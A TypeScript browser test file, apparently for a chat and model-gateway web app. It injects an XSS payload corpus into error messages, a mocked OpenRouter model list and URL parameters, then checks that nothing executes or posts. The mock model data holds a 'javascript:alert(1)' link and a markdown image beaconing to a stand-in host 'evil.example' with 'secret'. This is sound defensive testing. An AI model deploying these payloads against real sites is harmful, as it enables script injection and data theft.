import { expect, test } from "vitest";
import { play, seen, startNode } from "../support/servers.ts";
import { inChromium } from "./support/chromium.ts";
import { expectNothing, openWatched } from "./support/watched-chat.ts";
import { CORPUS } from "./xss-corpus/corpus.ts";

/** Those that a person would write on one screen. */
const TEXTS = CORPUS.flatMap(([, payloads]) => payloads)
  .map(([, text]) => text)
  .filter((text) => text.length < 500);

const AT_ONCE = 16;
const LINKED_AT_ONCE = 64;

/** What stands in the addresses of the views. */
const PARAMETERS = [
  ["connect", ["client", "find", "group"]],
  ["models", ["q", "open", "vendor", "out", "in", "sort"]],
  ["playground", ["model", "prompt"]],
  ["status", ["x"]],
] as const;

const TITLES = { connect: "Connect", models: "Models", playground: "Play", status: "Status" };

/** The list of OpenRouter, with these texts wherever a provider may write. */
function modelsOf(texts: readonly string[]): object[] {
  return texts.map((text, at) => ({
    id: `evil/${at}${text}`,
    canonical_slug: text,
    name: `${at}${text}`,
    // Newer than any other.
    created: 2_000_000_000 - at,
    description: `${text}\n\n[a](javascript:alert(1)) ![b](https://evil.example/?q=secret)`,
    context_length: 1000,
    architecture: { modality: text, input_modalities: ["text", text], output_modalities: ["text"] },
    pricing: { prompt: text, completion: "0.000001", [text]: "1" },
    top_provider: { max_completion_tokens: 10 },
    supported_parameters: ["temperature", text],
    knowledge_cutoff: text,
    expiration_date: text,
    alias_target: { name: text, slug: text },
  }));
}

inChromium("what others write", (open) => {
  test("in an error runs nothing and asks nobody (SEC-73)", async () => {
    const gateway = await startNode();
    const chat = await openWatched(open, { view: "playground", gateway });
    for (let at = 0; at < TEXTS.length; at += AT_ONCE) {
      const message = TEXTS.slice(at, at + AT_ONCE).join("\n");
      await play(gateway, { times: 1, status: 418, body: { error: { message, code: 418 } } });
      await chat.ask("Say it");
      await expectNothing(chat);
    }
    expect(await chat.page.locator(".notice").first().innerText()).toContain("<script>alert(1)");
    await gateway.stop();
  });

  test("in the list of models runs nothing and asks nobody (SEC-73)", async () => {
    const gateway = await startNode();
    const data = modelsOf(TEXTS);
    const match = { host: "openrouter.ai", path: "/api/v1/models" };
    await play(gateway, { match, body: { data } });
    const chat = await openWatched(open, { view: "models", gateway });
    const rows = chat.page.getByRole("row");
    await rows.filter({ hasText: "0<script>alert(1)</script>" }).first().waitFor();
    const step = 600;
    const height = await chat.page.evaluate(() => document.documentElement.scrollHeight);
    for (let top = 0; top < height; top += step) {
      await chat.page.evaluate((to) => scrollTo(0, to), top);
      await chat.page.evaluate(() => new Promise(requestAnimationFrame));
    }
    await expectNothing(chat);
    for (const { id } of data.slice(0, 5) as { id: string }[]) {
      await chat.page.goto(`${gateway.url}/#/models?open=${encodeURIComponent(id)}`);
      await chat.page.locator(".details").getByText(id, { exact: true }).first().waitFor();
      await expectNothing(chat);
    }
    await gateway.stop();
  });

  test("in a link to the page runs nothing and asks nobody (SEC-73)", async () => {
    const gateway = await startNode();
    const chat = await openWatched(open, { view: "connect", gateway });
    for (let at = 0; at < TEXTS.length; at += LINKED_AT_ONCE) {
      const text = encodeURIComponent(
        TEXTS.slice(at, at + LINKED_AT_ONCE)
          .join("\n")
          .toWellFormed(),
      );
      for (const [view, names] of PARAMETERS) {
        const params = names.map((name) => `${name}=${text}`).join("&");
        await chat.page.evaluate((hash) => location.assign(hash), `#/${view}?${params}`);
        await chat.page.waitForFunction((name) => document.title.startsWith(name), TITLES[view]);
      }
      await expectNothing(chat);
    }
    expect((await seen(gateway)).filter(({ method }) => method === "POST")).toEqual([]);
    await gateway.stop();
  });
});
